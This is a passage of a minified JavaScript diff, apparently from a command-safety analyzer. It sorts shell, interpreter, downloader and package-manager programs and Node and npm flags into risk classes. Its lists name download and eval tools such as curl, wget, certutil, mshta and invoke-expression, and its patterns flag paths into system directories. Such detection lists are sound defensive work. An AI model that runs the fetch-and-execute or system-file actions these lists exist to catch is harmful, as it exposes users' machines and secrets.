+u,n,l);for(const{text:u,span:l}of c)oa(u,n,l);return{words:c,assignments:i,refused:o,problems:n.inOrder()}}function ha({
+problems:t}){return t.every(({severity:e})=>e==="warning")}function eO(t,e){if(Buffer.byteLength(t)<=Gf)return!1;const n={
+start:0,end:t.length};return e.add("command-too-long",n,{more:`${Gf} bytes`}),!0}function tO(t,e,n){const s=[];let r=0;for(const[
+i,o]of t.entries()){const a={start:o.start,end:o.end},c=o.parts.some(B=>B.quoted),u=Wr(o);Hf(o,n),sO(o,n),rO(o,i===0,n),
+X0(u,o,i===0,n);const l=gx(o);if(l&&(r+=1),l&&r>Lf&&n.add("glob-unclear",a,{pattern:Tt(u),reason:"too_many"}),!l||r>Lf){
+s.push({text:u,span:a,quoted:c});continue}const d=nO(i,s);for(const B of xx({pattern:l,span:a,position:d},e,n))s.push({text:B,
+span:a,quoted:c})}return s}function nO(t,e){return t===0?"program":t===1&&e[0]?.text==="node"?"script":"argument"}function Hf(t,e){
+for(const[n,s]of t.parts.entries()){if(s.quoted||!s.text.includes("~"))continue;const r=s.text.search(n===0?/(?:^|[=:])~/:
+/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=Tt(Wr(t));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
+return}}function sO(t,e){let n=-1,s=!1;for(const r of t.parts)if(!(r.quoted||n<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
+text.matchAll(/[{},]|\.\./g)){const a=r.start+o;if(i==="{")n<0&&(n=a);else if(i!=="}")s=n>=0;else if(s){const c={start:n,
+end:a+1};e.add("brace-expansion",c,{written:Tt(Wr(t))});return}}}function rO(t,e,n){const s=ox(t);s!==void 0&&(s==="!"||
+e&&Pf(s))&&n.add("shell-grammar",{start:t.start,end:t.end},{written:s})}const iO=/^-\w*c$|^--command$/,pa=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
+oO=/^-\w*[eE]/,aO=/^$/,cO=/^(?:add|dlx)$/,uO=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish\
+ nu xonsh",{text:iO}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],["shell","cmd",{text:/^\/[ckr]/i}],
+["shell","osascript",{text:/^-e$/}],["shell","eval iex invoke-expression",{text:"words"}],["shell","source ."],["interpr\
+eter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:pa}],["interpreter","vite-node swc-node sucrase-nod\
+e",{text:pa}],["interpreter","bun",{text:pa,fetches:/^(?:x|add)$/,runsScripts:!0}],["interpreter","python python2 python\
+3 pythonw py pypy pypy3",{text:/^-[A-Za-z]*c/}],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy sc\
+ala",{text:oO}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh jshell ghci"],["wrapper","doas su \
+sudo",{wraps:"as-user"}],["wrapper","cross-env dotenv env-cmd",{wraps:"as-tool"}],["wrapper","command exec builtin busyb\
+ox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace ltrace gdb xargs parallel watch winpty"],[
+"wrapper","env ionice nice nohup setsid stdbuf timeout xvfb-run"],["downloader","curl wget aria2c axel fetch http https \
+xh httpie iwr irm invoke-webrequest"],["downloader","invoke-restmethod start-bitstransfer bitsadmin certutil mshta"],["b\
+uilder","go",{fetches:/^(?:run|install)$/}],["builder","cargo",{fetches:/^install$/}],["builder","make",{finds:"GNUmakef\
+ile makefile Makefile"}],["builder","just",{finds:"justfile Justfile .justfile"}],["builder","task",{finds:"Taskfile.yml\
+ Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],["manager","pnpm yarn",{fetches:cO,
+runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:aO}],["manager","pip pip3",{fetches:/^install$/}],["manager","g\
+em",{fetches:/^install$/}],["manager","pipx",{fetches:/^run$/}],["manager","uv",{fetches:/^(?:tool run|pip3? install)$/,
+runsInside:!0}],["manager","poetry conda hatch mise pdm pipenv pixi rye",{runsInside:!0}],["manager","corepack composer"],
+["system","docker podman",{fetches:/^(?:container )?run$/}],["system","cat ls rm cp mv grep find sed awk git touch echo \
+cd test diff wc head tail"],["system","chmod true false exit vim"]],Xr=new Map(uO.flatMap(([t,e,n])=>e.split(" ").map(s=>[
+s,{name:s,kind:t,...n}]))),lO=[...Xr.keys()];function Zs(t){return/^\.{1,2}$/.test(t)?t:t.replace(/^.*[\\/]/s,"").replace(
+/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function at(t){const e=Zs(t),n=Xr.get(e);if(n!==void 0)return n;const s=Xr.
+get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function Qr(t){return at(
+t)?.kind==="shell"}function ei(t){const e=at(t)?.kind;return e==="shell"||e==="interpreter"}function zf(t){if(t===".")return!1;
+const e=at(t)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function dO(t){const[e="",...n]=t.trim().split(/\s+/);
+return Jf(e)&&n.some(s=>/^-|[./]|^[|&;<>]+$/.test(s))}function Uf(t){return/&&|\|\||\$\(|`/.test(t)?!0:t.split(/;\s|\s\|\s/).
+some(e=>{const[n="",...s]=e.trim().split(/\s+/);return s.length>0&&Jf(n)})}function Jf(t){return Xr.has(t)}const ma=Zr({
+harmless:`
+    addons async-context-frame debug-arraybuffer-allocations deprecation disable-proto=
+    disable-sigusr1 disable-warning= disallow-code-generation-from-strings dns-result-order=
+    enable-fips enable-source-maps experimental-abortcontroller experimental-detect-module
+    experimental-eventsource experimental-fetch experimental-global-navigator
+    experimental-global-webcrypto experimental-modules experimental-print-required-tla
+    experimental-repl-await experimental-report experimental-require-module experimental-sqlite
+    experimental-test-coverage experimental-test-module-mocks experimental-test-snapshots
+    experimental-top-level-await experimental-transform-types
+    experimental-vm-modules experimental-wasi-unstable-preview1 experimental-websocket
+    experimental-worker expose-gc extra-info-on-fatal-exception force-async-hooks-checks
+    force-context-aware force-fips force-node-api-uncaught-exceptions-policy frozen-intrinsics
+    max-http-header-size= max-old-space-size-percentage= max-old-space-size?=
+    max-semi-space-size?= napi-modules network-family-autoselection
+    network-family-autoselection-attempt-timeout= pending-deprecation require-module
+    secure-heap-min= secure-heap= stack-trace-limit?= strip-types test test-concurrency=
+    test-coverage-branches= test-coverage-exclude= test-coverage-functions=
+    test-coverage-include= test-coverage-lines= test-force-exit test-isolation=
+    test-random-seed= test-randomize test-timeout= test-udp-no-try-send
+    throw-deprecation tls-max-v1.3 tls-min-v1.2 tls-min-v1.3 trace-atomics-wait
+    trace-deprecation trace-exit trace-promises trace-require-module= trace-sigint trace-sync-io
+    trace-tls trace-uncaught trace-warnings track-heap-objects v8-pool-size= verify-base-objects warnings zero-fill-buff\
+ers
+  `,"only-prints":`
+    completion-bash help v8-options version
+  `,"checks-syntax-only":`
+    check
+  `,"skips-tests":`
+    experimental-test-tag-filter= test-name-pattern= test-only test-shard= test-skip-pattern=
+  `,"tolerates-rejections":`
+    unhandled-rejections=
+  `,"reports-tests":`
+    test-reporter=
+  `,"writes-report":`
+    test-reporter-destination=
+  `,weakens:`
+    abort-on-uncaught-exception allow-addons allow-child-process allow-fs-read= allow-fs-write=
+    allow-inspector allow-natives-syntax allow-openssl-store allow-wasi allow-worker conditions=
+    disable-wasm-trap-handler enable-etw-stack-walking env-file-if-exists= env-file=
+    experimental-permission expose-internals harmony-shadow-realm huge-max-old-generation-size
+    insecure-http-parser interpreted-frames-native-stack jitless max-heap-size?= node-memory-debug
+    openssl-legacy-provider perf-basic-prof-only-functions perf-prof-unwinding-info permission
+    permission-audit security-revert= stack-size?= title= tls-cipher-list= tls-max-v1.2
+    tls-min-v1.0 tls-min-v1.1 trace-env trace-env-js-stack trace-env-native-stack use-bundled-ca
+    use-largepages= use-openssl-ca use-system-ca
+  `,evaluates:`
+    eval= print
+  `,preloads:`
+    experimental-loader= import= require=
+  `,"outside-code":`
+    build-snapshot debug debug-brk experimental-config-file= experimental-default-type= input-type=
+    inspect inspect-brk inspect-port= inspect-wait run= test-global-setup=
+  `,"reads-stdin":`
+    interactive
+  `,"never-ends":`
+    watch watch-path=
+  `,"writes-files":`
+    cpu-prof heap-prof prof report-on-fatalerror test-update-snapshots
+  `}),BO=new Map(`
+  -c=check -C=conditions -e=eval -h=help -i=interactive -p=print -pe=print -r=require -v=version
+  debug-port=inspect-port enable-network-family-autoselection=network-family-autoselection
+  experimental-default-config-file=experimental-config-file experimental-strip-types=strip-types
+  experimental-test-isolation=test-isolation loader=experimental-loader
+  security-reverts=security-revert
+  `.trim().split(/\s+/).map(t=>t.split("="))),fO=new Set("dot junit lcov spec tap".split(" ")),Zf=new Set(`
+  @swc-node/register dotenv/config esbuild-register source-map-support/register ts-node/esm
+  ts-node/register ts-node/register/transpile-only tsx tsx/cjs tsx/esm
+  `.match(/\S+/g)),hO=new Set(`
+  @babel/polyfill @babel/register @istanbuljs/esm-loader-hook @swc/register core-js/stable esm
+  reflect-metadata regenerator-runtime/runtime ts-node ts-node/register/files tsconfig-paths/register
+  `.match(/\S+/g));function Kf(t,e){const n=[],s=t.toReversed();let r;const i=o=>{for(const a of s.reverse())n.push({kind:"\
+operand",word:a});return{tokens:n,separator:o,rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(e.separator.test(
+o.text))return i(o);const a=!ga(o,e);if(!a&&r!==void 0){n.push({...r,word:o,next:o});continue}const{written:c,attached:u}=a?
+pO(o.text,e):{written:o.text,attached:void 0},l=a?e.expand(c,u):"operand";if(l==="operand"){if(n.push({kind:"operand",word:o}),
+e.flags==="first")return i();continue}if(r=void 0,l!==void 0&&"instead"in l){const{span:g,quoted:C}=o;s.push(...l.instead.
+map(b=>({text:b,span:g,quoted:C})).reverse());continue}const d=s.at(-1),B=l===void 0?e.unknown:l.at(-1)?.takes,f=u===void 0&&
+mO(B,d,e),h={word:o,written:c,attached:u,next:d,consumes:f};l===void 0&&n.push({kind:"unknown",...h});for(const[g,C]of l?.
+entries()??[]){const b=g===(l?.length??0)-1,y={word:o,written:c,attached:void 0,next:void 0,consumes:!1};n.push({kind:"f\
+lag",part:C,...b?h:y})}if(B==="rest")return{tokens:n,separator:void 0,rest:s.reverse()};const m=n.at(-1);B==="operands"&&
+f&&m?.kind==="flag"&&(r=m),f&&!(B==="both"&&d&&!ga(d,e))&&s.pop()}return i()}function ga({text:t},{dash:e}){return!t.startsWith(
+"-")||t==="-"&&e==="operand"}function pO(t,{equals:e}){return e==="all"||e==="long"&&t.startsWith("--")?Ca(t):{written:t,
+attached:void 0}}function mO(t,e,n){if(e===void 0)return!1;switch(t){case"always":case"both":return!0;case"unless-dash":
+return!e.text.startsWith("-");case"true-or-false":return CO(e.text);case"operand":case"operands":return ga(e,n);default:
+return!1}}function gO({word:{span:t},attached:e,next:n,consumes:s}){return s&&n?{value:n.text,span:{start:t.start,end:n.
+span.end}}:e===void 0?{span:t}:{value:e,span:t}}function CO(t){return t==="true"||t==="false"}function Ca(t){const e=t.indexOf(
+"=");return e<0?{written:t,attached:void 0}:{written:t.slice(0,e),attached:t.slice(e+1)}}const ya={families:qr,start:()=>({
+launched:[],problems:[]}),tool:()=>({problems:[]})};function fs(t){return t==="node"||t==="npm"||t==="npx"}function Ks(t){
+return/^(?:@[a-z0-9~-][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i.test(t)}function et(t,e,{text:n,span:s}){return be(t,s,
+{program:e,flag:n})}function ti(t,e,n){const{written:s,span:r,value:i}=n,o={program:e,flag:s};return be(t,r,i===void 0?o:
+{...o,value:i})}function qf(t,e){return e?"it takes a value, so it has no `--no-` form":t===void 0||t===""?"its value is\
+ missing":t.startsWith("-")?"its value begins with a dash":void 0}const yO=new Set(["--version","-v","-V","--help","-h"]);
+function Wf(t){const[e]=t;return t.length===1&&e!==void 0&&yO.has(e.text)?e:void 0}function ni(t,e){return et("only-prin\
+ts",t,e)}function Hn(t){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(t)||t.split(",").some(e=>xe(e)===void 0)}function zn(t){
+return/(?:^|[=,\s])(?:data|file):/i.test(t)?!0:!t.includes("..")||/^(?:[\\/]|[A-Za-z]:)/.test(t)?!1:t.split(/[=,:"']/).some(
+e=>e.includes("..")&&!bO(e))}function si(t){return t.split(/[=,:"']/).some(e=>wO.test(e))}const wO=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
+function bO(t){return/^[\\/]/.test(t)||xe(t)!==void 0}const _O=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);
+function Vf(t){const e=[],n=[],s=[],r=new Set;for(const B of Kf(t,EO).tokens){if(B.kind==="operand"){s.push(B.word);continue}
+if(B.kind==="unknown"){const b={program:"node",flag:B.written};n.push(be("unknown-flag",B.word.span,b));continue}const{spec:f,
+negated:h}=B.part,m=vO(B);e.push(m);const g=DO(f,h,m.value);if(g!==void 0&&n.push(xO(m,g)),h)continue;r.add(f.kind);const C=AO(
+f,m);C!==void 0&&n.push(ti(C,"node",m))}const i=ri({flags:e}),o=i?s.length:r.has("evaluates")?0:1,a=s.slice(0,o),c=s.slice(
+o),u=i||r.has("only-prints")||r.has("evaluates"),l=SO(a,i,t);l!==void 0&&!(u&&a.length===0)&&n.push(l);const d=Wf(c);return d!==
+void 0&&n.push(ni("node",d)),{invocation:{program:"node",flags:e,operands:a,passthrough:c},problems:n}}const EO={flags:"\
+first",dash:"operand",separator:/^--$/,equals:"long",unknown:"never",expand:t=>{const e=t.startsWith("--"),n=e?t.slice(2).
+replaceAll("_","-"):t,s=n.startsWith("no-")&&!ma.has(n),r=s?n.slice(3):n,i=ma.get(BO.get(r)??(e?r:""));return i&&[{spec:i,
+negated:s,takes:s?"never":kO(i)}]}};function kO({name:t,arity:e}){return t==="print"?"unless-dash":e==="value"?"always":
+"never"}function vO(t){const{spec:e,negated:n}=t.part;return{name:`--${n?"no-":""}${e.name}`,written:t.written,...gO(t)}}
+function DO({name:t,arity:e},n,s){if(e==="value")return qf(s,n);if(n)return s===void 0?void 0:"a `--no-` flag takes no v\
+alue";if(e!=="none")return s?void 0:"its value is missing";const r=t==="print"||/^(?:inspect|debug$|debug-brk$)/.test(t);
+return s===void 0||r?void 0:"it takes no value"}function xO(t,e){return be("flag-value",t.span,{program:"node",flag:t.written,
+fault:e})}function ri({flags:t}){return t.findLast(({name:e})=>e==="--test"||e==="--no-test")?.name==="--test"}const OO=/\.(?:info|lcov|log|tap|txt|xml)$/;
+function AO(t,{value:e=""}){switch(t.kind){case"harmless":return;case"reports-tests":return fO.has(e)?void 0:"outside-co\
+de";case"tolerates-rejections":return e==="warn"||e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e===
+"stderr"?void 0:OO.test(e)&&!Hn(e)?"tool-writes":"writes-files";case"evaluates":return"outside-code";case"preloads":return Zf.
+has(e)?"tool-runs-file":"outside-code";default:return t.kind}}function SO(t,e,n){const[s]=t;if(s===void 0){const o=n.at(
+-1)?.span.end??0;return e?void 0:be("reads-stdin",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(_O.
+has(r))return be("reads-stdin",i,{program:"node",flag:r});if(r.startsWith("-"))return be("outside-code",i,{program:"node",
+flag:`-- ${r}`});if(r==="inspect"||!e&&r==="debug")return be("outside-code",i,{program:"node",flag:r})}const Yf=gf({text:`\
+
+    color no-color foreground-scripts if-present include-workspace-root json loglevel= long offline
+    parseable prefer-offline prefer-online progress no-progress unicode no-unicode update-notifier
+    no-update-notifier workspace= workspaces no-yes
+  `,path:"prefix=","only-prints":"usage version versions","skips-tests":"ignore-scripts","outside-code":"call= global gl\
+obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),TO=new Set(["--inc\
+lude-workspace-root","--prefix","--workspace","--workspaces"]),IO=new Set(["--bail","--coverage","--runInBand"]),$O=`
+  -?=usage -C=prefix -H=usage -c=call -d=loglevel:info -dd=loglevel:verbose -ddd=loglevel:silly
+  -g=global -h=usage --help=usage -iwr=include-workspace-root -l=long --no=no-yes -p=parseable
+  -q=loglevel:warn --quiet=loglevel:warn -s=loglevel:silent --silent=loglevel:silent -v=version
+  --verbose=loglevel:verbose -w=workspace -ws=workspaces -y=yes
+`,Xf=new Map($O.trim().split(/\s+/).map(t=>t.split(/[=:]/)).map(([t="",e,n])=>[t,`--${e}${n===void 0?"":`=${n}`}`])),Qf=Zr(
+{"runs-script":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll\
+ prefix query root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit ins\
+tall-test,it link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprec\
+ate dist-tag login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,\
+info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function Un(t,e){
+const{tokens:n,rest:s}=Kf(e,PO(t)),r=[],i=[];let o;for(const B of n)B.kind==="flag"&&B.word===o&&/\s/.test(B.written)||(o=
+B.kind==="flag"&&B.consumes?B.next:void 0,B.kind==="flag"&&!RO(t,B,i)?r.push(NO(B)):i.push(B.word));const a=t.stops?{operands:[],
+started:i}:{operands:i,started:[]},c=s&&r.pop();if(s===void 0||c===void 0)return{flags:r,...a};const{word:u,value:l}=c,d=l===
+void 0?s:[{...u,text:l},...s];return{flags:r,...a,rest:{flag:c,words:d}}}function RO({readsBehind:t,handsOn:e},{part:n},s){
+return!!t&&!e&&n.spec===void 0&&s.length>0}function NO(t){const{word:e,attached:n,next:s,consumes:r,part:i}=t,{spec:o,negated:a,
+letter:c,fixed:u=n}=i,l=c??t.written;if(r&&s!==void 0){const m={start:e.span.start,end:s.span.end};return{word:{...e,span:m},
+written:l,flag:o,value:s.text,valueWord:s,off:!1}}const d=s!==void 0&&(!s.text.startsWith("-")||s.text==="-"),B=o===void 0&&
+d?s.text:void 0,f=o?.arity!=="value"&&/^(?:false|0)$/.test(u??""),h=o?.arity!=="rest"&&(a||f);return{word:e,written:l,flag:o,
+value:u??B,off:h}}const FO={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function xn(t,e=!1){
+const n=t===void 0?"never":FO[t.arity];return{spec:t,negated:e,takes:e&&n!=="rest"?"never":n}}function LO({flags:t},e,n){
+const s=c=>{const u=t.get(c);return{...xn(u),takes:u?.arity==="value"?"always":"never"}},r=t.get(e)??t.get(/^-\d+$/.test(
+e)?"-#":"");if(r!==void 0)return[(n===void 0?r.arity!=="attached":r.arity!=="none")?s(r.name):xn(void 0)];const i=e.slice(
+0,2);if(!e.startsWith("--")&&t.get(i)?.arity==="value")return[{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.
+test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(c=>t.get(`-${c}`)?.arity==="none")?o.map(c=>s(`-${c}`)):[xn(void 0)]}
+function PO(t){return{flags:t.stops&&!t.readsBehind?"first":"anywhere",dash:"operand",separator:/^--$/,equals:t.strict?"\
+long":"all",unknown:"never",expand:(e,n)=>{if(t.strict)return LO(t,e,n);const s=jO(t,e,n),r=t.handsOn&&!t.readsBehind;return t.
+stops&&r&&s.some(({spec:o})=>o===void 0)?"operand":s}}}function jO(t,e,n){const s=e.replace(/^-+/,""),r=e.startsWith("--"),
+i=MO(t,s,r);if(i!==void 0)return[i];if(r||s.length<2)return[xn(void 0)];const o=[],a=n===void 0?s:`${s}=${n}`;for(let c=0;c<
+a.length;c+=1){const u=a[c]??"",l=t.flags.get(u);if(l===void 0)return[...o,xn(void 0)];const d={...xn(l),letter:`-${u}`},
+B=a.slice(c+1);if(B!==""&&(l.arity!=="none"||B.startsWith("="))){const f=l.arity==="rest"?"rest":"never";return[...o,{...d,
+fixed:B.replace(/^=/,""),takes:f}]}o.push(d)}return o}function MO(t,e,n){const s=eh(t,e,n)??(n&&t.completes?GO(t,e):void 0);
+if(s!==void 0)return xn(s);if(!/^no-?[A-Za-z]/.test(e))return;const r=eh(t,e.replace(/^no-?/,""),n);return r&&xn(r,!0)}function GO({
+flags:t},e){const n=Bs(e),s=new Map;for(const[i,o]of t)i.startsWith(n)&&s.set(o.name,o);const[r]=s.values();return s.size===
+1?r:void 0}function eh(t,e,n){const s=Bs(e),r=n?s.lastIndexOf("."):-1,i=r<0?void 0:t.flags.get(s.slice(r+1));return i===
+void 0||t.flags.has(s)?ra(t,s):i.kind==="text"?ra(t,s)??i:i}const wa=["outside-code","uses-network","writes-files","tool\
+-writes","only-prints","checks-syntax-only","never-ends","skips-tests","weakens","reads-stdin"];function ii(t){return wa.
+includes(t)}function th(t,e=ya){const{flags:n,operands:s}=nh(Yf,t,Xf),[r,...i]=s,o=r&&Qf.get(r.text),a=o?.kind==="runs-t\
+ool",c=sh("npm",n,t,a),u={program:"npm",flags:c.flags};if(r===void 0){const f=rh(n)?[]:[ba("npm",t)];return{invocation:{
+...u,operands:[],passthrough:[]},problems:[...c.problems,...f]}}if(o===void 0){const f=[...Qf].find(([g])=>g.startsWith(
+r.text))?.[1].name??"",h={program:"npm",subcommand:r.text,meant:f},m=[be("unknown-subcommand",r.span,h),...c.problems];return{
+invocation:{...u,operands:i,passthrough:[]},problems:m}}const l={...u,subcommand:o.name},{invocation:d,problems:B}=JO(o,
+{word:r,rest:i},l,e);return{invocation:d,problems:[...B,...c.problems]}}const HO=new Map([...Xf,["--no-install","--no-ye\
+s"],["-p","--package"]]);function zO(t,e=ya){const{flags:n,operands:s}=nh({...Yf,stops:!0},t,HO),r=sh("npx",n,t,!0),i={program:"\
+npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:h,...m}=i,g=rh(n)?[]:[ba("npx",t)];return{invocation:{
+...m,operands:[],passthrough:[]},problems:[...r.problems,...g]}}const a=t[t.indexOf(o)-1],c=s.slice(1).find(({text:h})=>h.
+startsWith("-")),d=/^--no(?!-install$)/.test(a?.text??"")&&c!==void 0&&a?[be("flag-value",a.span,{program:"npx",flag:a.text,
+fault:"npx takes the next word for its value"})]:[],{invocation:B,problems:f}=ih(s,i,e);return{invocation:B,problems:[...f,
+...r.problems,...d]}}function nh(t,e,n){const s=new Map;for(const c of e){const u=n.get(c.text);s.set(u===void 0?c:{...c,
+text:u},c)}const{flags:r,operands:i,started:o}=Un(t,[...s.keys()]),a=t.stops?o:i;return{flags:r,operands:a.map(c=>s.get(
+c)??c)}}function sh(t,e,n,s){const r=e.map(i=>{const{word:o,value:a,flag:c}=i,u=n.findIndex(({span:D})=>D.start===o.span.
+start),l=(n[u]?.text??"").replace(/(?<=^--[^=]*)=.*/s,""),[,d,B]=/^--(no-)?(.*)$/s.exec(c?.name??l)??[],f=d!==void 0,h={
+name:`--${B??l}`,written:l,span:o.span,...a!==void 0&&c&&{value:a},...f&&{negated:f}};if(c===void 0)return{flag:h,problems:[
+UO(t,h,n[u+1],s)]};const m=/^(?:true|false|null|always)$/.test(n[u+1]?.text??""),g=c.arity==="value"?qf(a,!1):m?"npm rea\
+ds the next word as its value":void 0,C=ii(c.kind)?c.kind:s&&TO.has(c.name)?"outside-code":void 0,b={program:"npm",flag:l,
+fault:g??""},y=g===void 0?[]:[be("flag-value",o.span,b)];return{flag:h,problems:[...C?[ti(C,t,h)]:[],...y]}});return{flags:r.
+map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function UO(t,e,n,s){const r=ti("unknown-flag",t,e),i=!s&&IO.has(
+e.written),o=n!==void 0&&!n.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}function rh(t){return t.some(({
+flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function JO({name:t,kind:e},n,s,r){if(e==="runs-script")return ZO(
+t,n,s);if(e!=="runs-tool")return{invocation:{...s,operands:n.rest,passthrough:[]},problems:[et(e,s.program,{text:t,span:n.
+word.span})]};if(n.rest.length>0)return ih(n.rest,s,r);const o=s.flags.some(({name:a})=>a==="--call")?[]:[ba(s.program,[
+n.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function ZO(t,{word:e,rest:n},s){const r=t==="\
+run"?n.slice(0,1):[e],i=t==="run"?n.slice(1):n,[o]=r,a=[];o===void 0?a.push(ni("npm",{...e,text:"run"})):o.text==="env"&&
+a.push({...ni("npm",{...o,text:"run env"}),severity:"error"});const c=Wf(i);return c!==void 0&&a.push(ni("npm",c)),{invocation:{
+...s,operands:r,passthrough:i},problems:a}}function ih([t,...e],n,s){const r={...n,operands:t?[t]:[],passthrough:e};if(t===
+void 0)return{invocation:r,problems:[]};if(!Ks(t.text))return{invocation:r,problems:[et("uses-network",n.program,t)]};const{
+problems:i,...o}=s.tool(t,e);return{invocation:{...r,...o},problems:i}}function ba(t,e){const n=e[0]?.span.start??0,s=e.
+at(-1)?.span.end??0;return be("nothing-to-run",{start:n,end:s},{program:t})}const _a={problems:[]};function oi(t,e,n){const{
+word:s,flag:r,value:i="",written:o,off:a}=n;if(r===void 0)return sA(t,e,n);const c=h=>Ea(h,t,n),{choices:u}=r;if(u?.every(
+h=>!KO(h,i.replace(/\s+/g,""))))return{problems:[c("unknown-flag")]};if(a)return _a;if(r.kind==="node")return ch(s,nA(t,
+i));const{rule:l,...d}=ii(r.kind)?{rule:r.kind}:qO(t,n,e.stops===!0),B=zn(o)||si(o),f=l??(B?"outside-code":void 0);return{
+...i===""?{}:d,problems:f?[c(f)]:[]}}function KO(t,e){const[n="",s]=t.split("~");if(s===void 0)return e===t;const r=e.slice(
+n.length,e.length-s.length);return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${n}${r}${s}`}function Ea(t,e,{word:{text:n,span:s},written:r,
+value:i=""}){const o=n===r&&i!==""?`${r} ${i}`:n;return ti(t,e,{name:r,written:o,span:s,value:i})}function qO(t,e,n){const{
+word:s,flag:r,written:i,value:o=""}=e,{span:a}=s,c=r?.kind??"text";switch(c){case"choice":return{};case"tests":return{files:[
+{as:"tests",path:o,span:a}]};case"path":{const u=xe(o)===void 0?"outside-code":void 0,l=Hn(o)?[]:[{as:"place",path:o,span:a}];
+return{rule:u,files:l,root:o}}case"config":return Hn(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"conf\
+ig",path:o,span:a}]};case"output":{const u=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(
+u)?{}:Hn(u)?{rule:"writes-files"}:{rule:"tool-writes",files:[{as:"place",path:u,span:a}]}}case"code":case"preload":{const u=c===
+"code"?oh(o,n):XO(o,n),l=Ea("tool-runs-file",t,e);return{rule:u,files:QO(o).map(d=>eA(d,a,l,c))}}case"module":{const u=o.
+split(":").filter(f=>/^\w+(?:\.\w+)*$/.test(f)),l=new Set(u.flatMap(f=>[f,f.replace(/\.\w+$/,"")]).flatMap(ka)),d=Ea("to\
+ol-runs-file",t,e);return{rule:zn(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...l].map(f=>({as:"module",path:f,span:a,
+ifFile:d}))}}default:{const u=si(o)&&!YO(i,o),l=!ii(c)&&ds[c](o)!==void 0;return{rule:zn(o)||u||WO.test(o)||l?"outside-c\
+ode":void 0}}}}const WO=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,VO=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;
+function YO(t,e){return VO.test(t)||t==="-t"&&!e.includes(":")}function oh(t,e){if(Hn(t)||/[\s(){};`]/.test(t))return"ou\
+tside-code";if(t.split(",").some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function XO(t,e){
+return Zf.has(t)||hO.has(t)?"tool-runs-file":e?"outside-code":oh(t,e)??"tool-runs-file"}function QO(t){return t.split(",").
+filter(n=>n!==""&&!Hn(n)).map(n=>n.replace(/^<rootDir>\//,"./"))}function eA(t,e,n,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.
+test(t)?{as:"code",path:t,span:e}:{as:"module",path:t,span:e,ifFile:n,first:s==="preload"}}function ka(t){const e=t.replaceAll(
+".","/");return["","src/"].flatMap(n=>[".py","/__main__.py","/__init__.py"].map(s=>`${n}${e}${s}`))}function tA(t){const[
+,e="",n=""]=/^(\w+)[=:](.*)$/s.exec(t)??[];return e!==""&&aa(e,n)}function nA(t,e){return/^(?:_?mocha|deno)$/.test(t)?e.
+split(",").map(n=>n.startsWith("-")?n:`--${n}`):t==="ava"?un(e).words.map(({text:n})=>n):[e]}const ah="x.js";function ch({
+span:t},e){const n=[...e,ah,ah].map(i=>({text:i,span:t,quoted:!1})),{invocation:s,problems:r}=Vf(n);return{problems:r,nodeFlags:s.
+flags}}function sA(t,{stops:e,handsOn:n,data:s={}},{word:r,value:i=""}){const o=a=>({problems:[et(a,t,r)]});if(n){const a=r.
+text.includes("=")||i===""?[]:[i],c=ch(r,[r.text,...a]);if(!c.problems.some(({rule:u})=>u==="unknown-flag"))return c}return e?
+o("unknown-flag"):s.starts==="npm-scripts"&&r.text.includes("=")?_a:zn(i)||si(i)?o("outside-code"):s.unknown?_a:o("unkno\
+wn-flag")}function rA(t,e,n){const[s]=n;if(s===void 0)return[];const r=n.find(({text:o})=>e.readsBehind&&uh(e,o)!==void 0);
